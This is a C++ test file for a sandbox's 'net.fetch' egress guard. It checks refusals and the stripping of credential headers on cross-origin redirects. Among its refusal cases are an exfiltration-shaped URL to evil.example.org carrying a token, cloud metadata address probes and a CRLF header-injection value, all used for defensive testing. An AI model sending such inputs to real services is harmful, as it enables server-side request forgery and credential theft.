// net.fetch (gateway_capabilities.h; docs/capabilities.md "net.fetch"): the
// capability hands every URL to the outbound guard (egress/outbound_guard.h)
// with the execution's egress policy, so the decision is the proxy's
// decide(). The refusal paths need no network at all (they are decided
// before any connection, most before any lookup, which a FakeDns counts);
// the one allowed fetch dials a loopback sink exempted by the test-only
// TestSinkToken (classifier.h), inside a network namespace of this binary's
// own (main() below, tests/egress/testing/hermetic_net.h), and is skipped
// without one. Nothing leaves the machine.
#include <arpa/inet.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cctype>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <sstream>
#include <thread>
#include <vector>

#include "airlock/capability/broker/capabilities.h"
#include "airlock/egress/classifier.h"
#include "airlock/sys/unique_fd.h"
#include "broker_test_support.h"
#include "fake_dns.h"
#include "hermetic_main.h"

namespace airlock {
namespace {

using capability::CallContext;
using capability::wire::Refusal;
using capability::wire::Value;
using gateway::NetServices;

bool g_hermetic = false;
constexpr const char* kSink = "127.0.0.2";
constexpr const char* kOtherSink = "127.0.0.4";  // another origin

std::shared_ptr<const egress::Policy> allowlist(
    std::vector<std::pair<std::string, int>> destinations) {
  EgressPolicy value;
  value.mode = EgressMode::kAllowlist;
  for (auto& [host, port] : destinations)
    value.destinations.push_back(EgressDestination{std::move(host), {port}});
  auto p = egress::compilePolicy(value, "test");
  EXPECT_TRUE(p) << p.error().message();
  return *p;
}
std::shared_ptr<const egress::Policy> allowlist(const std::string& host, int port) {
  return allowlist({{host, port}});
}

struct Net {
  egress::testing::FakeDns dns;
  NetServices services;
  explicit Net(std::shared_ptr<const egress::Policy> policy) {
    services.policy = std::move(policy);
    services.resolver = std::make_shared<egress::GetaddrinfoResolver>(dns.backend());
    services.classifier = std::make_shared<const egress::AddressClassifier>(
        std::make_shared<egress::FixedSelfAddresses>(std::vector<egress::IpAddress>{}),
        egress::testing::makeTestSinkToken(),
        std::vector<egress::IpAddress>{*egress::IpAddress::parse(kSink),
                                       *egress::IpAddress::parse(kOtherSink)});
  }
};

capability::wire::Answer fetch(const NetServices& net, Value args,
                               std::chrono::milliseconds budget = std::chrono::seconds(10)) {
  capability::SandboxServices s;
  s.net = net;
  auto table = capability::makeSandboxCapabilities(s);
  auto cancel = CancelToken::create();
  EXPECT_TRUE(cancel);
  const auto* entry = table->find("net.fetch");
  EXPECT_NE(entry, nullptr);
  CallContext ctx{"net.fetch", args, capability::BrokerClock::now() + budget, *cancel};
  return entry->handler(ctx);
}

Value urlArgs(const std::string& url) {
  return Value::map({{"url", Value::string(url)}});
}

std::string code(const capability::wire::Answer& a) {
  auto* r = std::get_if<Refusal>(&a);
  return r == nullptr ? "<value>" : r->code;
}

TEST(NetCapability, WithoutAPolicyEveryUrlIsRefusedModeDeny) {
  auto a = fetch(NetServices{}, urlArgs("https://example.com/"));
  EXPECT_EQ(code(a), "mode_deny");
}

TEST(NetCapability, ADenyPolicyRefusesBeforeAnyLookup) {
  auto deny = egress::compilePolicy(EgressPolicy{}, "test");
  ASSERT_TRUE(deny);
  Net net(*deny);
  EXPECT_EQ(code(fetch(net.services, urlArgs("http://hooks.example.com/"))), "mode_deny");
  EXPECT_EQ(net.dns.lookupCount(), 0u);
}

TEST(NetCapability, AHostOffTheAllowlistIsRefusedAndNeverResolved) {
  Net net(allowlist("hooks.example.com", 443));
  net.dns.setDefault({kSink});
  auto a = fetch(net.services, urlArgs("https://evil.example.org/x?token=secret"));
  ASSERT_EQ(code(a), "host_not_allowed");
  EXPECT_EQ(std::get<Refusal>(a).message.find("secret"), std::string::npos)
      << "no query in messages";
  EXPECT_EQ(code(fetch(net.services, urlArgs("https://hooks.example.com:8443/"))),
            "port_not_allowed");
  EXPECT_EQ(code(fetch(net.services, urlArgs("ftp://hooks.example.com/"))), "scheme_not_allowed");
  EXPECT_EQ(code(fetch(net.services, urlArgs("https://169.254.169.254/"))), "ip_literal");
  EXPECT_EQ(code(fetch(net.services, urlArgs("https://user:pw@hooks.example.com/"))),
            "malformed_authority");
  EXPECT_EQ(net.dns.lookupCount(), 0u);
}

TEST(NetCapability, TheMetadataAddressAndPrivateAddressesAreRefusedAfterTheLookup) {
  Net net(allowlist("*.example.com", 80));
  // The cloud metadata address is in the link-local block; Azure's
  // WireServer has a class of its own (egress/address.h).
  net.dns.add("meta.example.com.", {"169.254.169.254"});
  net.dns.add("wire.example.com.", {"168.63.129.16"});
  net.dns.add("private.example.com.", {"10.1.2.3"});
  net.dns.add("mixed.example.com.", {"93.184.216.34", "169.254.169.254"});
  EXPECT_EQ(code(fetch(net.services, urlArgs("http://meta.example.com/latest/meta-data/"))),
            "resolved_denied:link_local");
  EXPECT_EQ(code(fetch(net.services, urlArgs("http://wire.example.com/"))),
            "resolved_denied:metadata");
  EXPECT_EQ(code(fetch(net.services, urlArgs("http://private.example.com/"))),
            "resolved_denied:private");
  EXPECT_EQ(code(fetch(net.services, urlArgs("http://mixed.example.com/"))),
            "resolved_denied:link_local")
      << "one denied address in the answer denies the name";
  EXPECT_EQ(net.dns.lookupCount(), 4u);
}

TEST(NetCapability, ArgumentsAreCheckedBeforeTheGuard) {
  Net net(allowlist("hooks.example.com", 80));
  EXPECT_EQ(code(fetch(net.services, Value::nil())), "bad_request");
  EXPECT_EQ(code(fetch(net.services, Value::map({{"url", Value::integer(1)}}))), "bad_request");
  EXPECT_EQ(
      code(fetch(net.services, Value::map({{"url", Value::string("http://hooks.example.com/")},
                                           {"method", Value::string("CONNECT")}}))),
      "bad_request");
  EXPECT_EQ(
      code(fetch(
          net.services,
          Value::map({{"url", Value::string("http://hooks.example.com/")},
                      {"headers", Value::map({{"X-A", Value::string("a\r\nHost: evil")}})}}))),
      "bad_request");
  EXPECT_EQ(
      code(fetch(net.services, Value::map({{"url", Value::string("http://hooks.example.com/")},
                                           {"body", Value::string("x")}}))),
      "bad_request")
      << "no body with GET";
  EXPECT_EQ(net.dns.lookupCount(), 0u);
}

TEST(NetCapability, ProductionServicesCarryTheSandboxPolicy) {
  auto deny = gateway::productionNetServices(EgressPolicy{});
  ASSERT_TRUE(deny);
  EXPECT_EQ(deny->policy->mode(), EgressMode::kDeny);
  EXPECT_EQ(code(fetch(*deny, urlArgs("https://hooks.example.com/"))), "mode_deny");
  EgressPolicy value;
  value.mode = EgressMode::kAllowlist;
  value.destinations.push_back(EgressDestination{"hooks.example.com", {443}});
  auto allowed = gateway::productionNetServices(value);
  ASSERT_TRUE(allowed);
  EXPECT_EQ(allowed->policy->check("hooks.example.com", 443), egress::Reason::kAllowed);
  EXPECT_EQ(allowed->policy->check("other.example.com", 443), egress::Reason::kHostNotAllowed);
  // Refused by the production composition before any lookup.
  EXPECT_EQ(code(fetch(*allowed, urlArgs("https://other.example.com/"))), "host_not_allowed");
  EgressPolicy broken;
  broken.mode = EgressMode::kAllowlist;
  broken.destinations.push_back(EgressDestination{"*", {443}});
  EXPECT_FALSE(gateway::productionNetServices(broken)) << "compilePolicy's rules hold";
}

TEST(NetCapability, TheRefusalCodeCrossesTheWireUnchanged) {
  testing::TempCapDir dir;
  Net net(allowlist("hooks.example.com", 443));
  capability::SandboxServices s;
  s.net = net.services;
  capability::SessionOptions o;
  o.policy = capability::defaultCodeModePolicy();
  auto session = capability::BrokerSession::open(dir.channel(), std::move(o),
                                                 capability::makeSandboxCapabilities(s));
  ASSERT_TRUE(session);
  testing::WireClient c(dir.path() + "/cap.sock");
  c.call((*session)->token(), "net.fetch", urlArgs("https://evil.example.org/"));
  auto r = c.result();
  ASSERT_TRUE(r);
  ASSERT_TRUE(std::holds_alternative<Refusal>(r->second));
  EXPECT_EQ(std::get<Refusal>(r->second).code, "host_not_allowed");
  (*session)->finish();
}

constexpr const char* kHello =
    "HTTP/1.1 200 OK\r\nContent-Length: 5\r\nX-Sink: yes\r\nConnection: close\r\n\r\nhello";

// Canned responses on `ip`, one connection each, in order; each request's
// head is recorded.
class OneShotSink {
 public:
  explicit OneShotSink(const char* ip = kSink, std::vector<std::string> responses = {kHello})
      : responses_(std::move(responses)) {
    fd_.reset(::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0));
    sockaddr_in sa{};
    sa.sin_family = AF_INET;
    ::inet_pton(AF_INET, ip, &sa.sin_addr);
    ok_ = ::bind(fd_.get(), reinterpret_cast<sockaddr*>(&sa), sizeof sa) == 0 &&
          ::listen(fd_.get(), 4) == 0;
    socklen_t len = sizeof sa;
    ::getsockname(fd_.get(), reinterpret_cast<sockaddr*>(&sa), &len);
    port_ = ntohs(sa.sin_port);
    if (ok_) thread_ = std::thread([this] { serve(); });
  }
  ~OneShotSink() {
    ::shutdown(fd_.get(), SHUT_RDWR);
    if (thread_.joinable()) thread_.join();
  }
  bool ok() const { return ok_; }
  int port() const { return port_; }
  // The request heads, once every response was served (or the sink ended).
  std::vector<std::string> requests() {
    if (thread_.joinable()) thread_.join();
    return requests_;
  }
  std::string request() {
    auto all = requests();
    return all.empty() ? std::string() : all.front();
  }

 private:
  void serve() {
    for (const std::string& response : responses_) {
      sys::UniqueFd c(::accept4(fd_.get(), nullptr, nullptr, SOCK_CLOEXEC));
      if (!c.valid()) return;
      timeval tv{5, 0};
      ::setsockopt(c.get(), SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
      char buf[4096];
      std::string request;
      while (request.find("\r\n\r\n") == std::string::npos) {
        ssize_t n = ::read(c.get(), buf, sizeof buf);
        if (n <= 0) return;
        request.append(buf, static_cast<std::size_t>(n));
      }
      requests_.push_back(std::move(request));
      (void)::write(c.get(), response.data(), response.size());
    }
  }
  std::vector<std::string> responses_;
  sys::UniqueFd fd_;
  bool ok_ = false;
  int port_ = 0;
  std::thread thread_;
  std::vector<std::string> requests_;
};

std::string redirectTo(const std::string& location) {
  return "HTTP/1.1 302 Found\r\nLocation: " + location +
         "\r\nContent-Length: 0\r\nConnection: close\r\n\r\n";
}

TEST(NetCapability, AnAllowedFetchReachesTheSinkThroughTheGuard) {
  if (!g_hermetic) GTEST_SKIP() << "needs a private network namespace (root)";
  OneShotSink sink;
  ASSERT_TRUE(sink.ok());
  Net net(allowlist("hooks.example.com", sink.port()));
  net.dns.add("hooks.example.com.", {kSink});
  auto a = fetch(
      net.services,
      Value::map(
          {{"url", Value::string("http://hooks.example.com:" + std::to_string(sink.port()) + "/p")},
           {"headers", Value::map({{"X-Test", Value::string("1")}})},
           {"timeout_ms", Value::integer(5000)}}));
  ASSERT_TRUE(std::holds_alternative<Value>(a))
      << std::get<Refusal>(a).code << ": " << std::get<Refusal>(a).message;
  const Value& v = std::get<Value>(a);
  EXPECT_EQ(v.find("status")->asUnsigned().value_or(0), 200u);
  ASSERT_NE(v.find("body")->asString(), nullptr);
  EXPECT_EQ(*v.find("body")->asString(), "hello");
  const std::string req = sink.request();
  EXPECT_EQ(req.rfind("GET /p HTTP/1.1\r\n", 0), 0u) << req;
  EXPECT_NE(req.find("X-Test: 1\r\n"), std::string::npos) << req;
}

bool hasHeader(const std::string& request, const std::string& name) {
  std::string lower_request = request, lower_name = name;
  for (char& c : lower_request) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
  for (char& c : lower_name) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
  return lower_request.find("\r\n" + lower_name + ":") != std::string::npos;
}

// The headers a program sets on net.fetch, and whether a redirect to another
// origin may carry them (the safe list of egress/outbound_guard.h; the GET
// here has no body, so Content-Type does not go).
struct ProgramHeader {
  const char* name;
  bool crosses;
};
constexpr ProgramHeader kProgramHeaders[] = {
    {"X-Api-Key", false},      {"Authorization", false},
    {"Cookie", false},         {"Proxy-Authorization", false},
    {"X-Custom-Token", false}, {"Content-Type", false},
    {"Accept", true},          {"Accept-Language", true},
    {"User-Agent", true},      {"Cache-Control", true},
};

Value programHeaders() {
  std::vector<std::pair<std::string, Value>> headers;
  for (const auto& h : kProgramHeaders) headers.emplace_back(h.name, Value::string("v-secret"));
  return Value::map(std::move(headers));
}

TEST(NetCapability, ARedirectToAnotherOriginCarriesOnlyTheSafeHeaders) {
  if (!g_hermetic) GTEST_SKIP() << "needs a private network namespace (root)";
  OneShotSink b(kOtherSink);
  ASSERT_TRUE(b.ok());
  const std::string url_b = "http://other.example.com:" + std::to_string(b.port()) + "/landing";
  OneShotSink a(kSink, {redirectTo(url_b)});
  ASSERT_TRUE(a.ok());
  Net net(allowlist({{"hooks.example.com", a.port()}, {"other.example.com", b.port()}}));
  net.dns.add("hooks.example.com.", {kSink});
  net.dns.add("other.example.com.", {kOtherSink});
  auto answer =
      fetch(net.services, Value::map({{"url", Value::string("http://hooks.example.com:" +
                                                            std::to_string(a.port()) + "/start")},
                                      {"headers", programHeaders()},
                                      {"timeout_ms", Value::integer(5000)}}));
  ASSERT_TRUE(std::holds_alternative<Value>(answer))
      << std::get<Refusal>(answer).code << ": " << std::get<Refusal>(answer).message;
  const Value& v = std::get<Value>(answer);
  EXPECT_EQ(v.find("status")->asUnsigned().value_or(0), 200u);
  EXPECT_EQ(v.find("redirects")->asUnsigned().value_or(0), 1u);
  const std::string at_a = a.request();
  const std::string at_b = b.request();
  EXPECT_EQ(at_b.rfind("GET /landing HTTP/1.1\r\n", 0), 0u) << at_b;
  for (const auto& h : kProgramHeaders) {
    EXPECT_TRUE(hasHeader(at_a, h.name)) << h.name << " at the first origin: " << at_a;
    EXPECT_EQ(hasHeader(at_b, h.name), h.crosses) << h.name << " at the other origin: " << at_b;
  }
}

TEST(NetCapability, ASameOriginRedirectKeepsTheProgramsHeaders) {
  if (!g_hermetic) GTEST_SKIP() << "needs a private network namespace (root)";
  OneShotSink a(kSink, {redirectTo("/next"), kHello});
  ASSERT_TRUE(a.ok());
  Net net(allowlist("hooks.example.com", a.port()));
  net.dns.add("hooks.example.com.", {kSink});
  auto answer =
      fetch(net.services, Value::map({{"url", Value::string("http://hooks.example.com:" +
                                                            std::to_string(a.port()) + "/start")},
                                      {"headers", programHeaders()},
                                      {"timeout_ms", Value::integer(5000)}}));
  ASSERT_TRUE(std::holds_alternative<Value>(answer))
      << std::get<Refusal>(answer).code << ": " << std::get<Refusal>(answer).message;
  EXPECT_EQ(std::get<Value>(answer).find("redirects")->asUnsigned().value_or(0), 1u);
  const auto requests = a.requests();
  ASSERT_EQ(requests.size(), 2u);
  EXPECT_EQ(requests[1].rfind("GET /next HTTP/1.1\r\n", 0), 0u) << requests[1];
  for (const auto& h : kProgramHeaders)
    EXPECT_TRUE(hasHeader(requests[1], h.name)) << h.name << " after a same-origin redirect";
}

}  // namespace
}  // namespace airlock

int main(int argc, char** argv) {
  // Every test name points at nothing listening: a lookup that escaped the
  // FakeDns would dial nothing off the machine.
  std::ostringstream hosts;
  hosts << "127.0.0.1 localhost\n";
  for (const char* name : {"hooks.example.com", "other.example.com", "evil.example.org"})
    hosts << "127.0.0.3 " << name << " " << name << ".\n";
  return airlock::egress::testing::runTestsInHermeticNetwork(argc, argv, "net capability tests",
                                                             hosts.str(), airlock::g_hermetic,
                                                             "the dialling test is skipped");
}
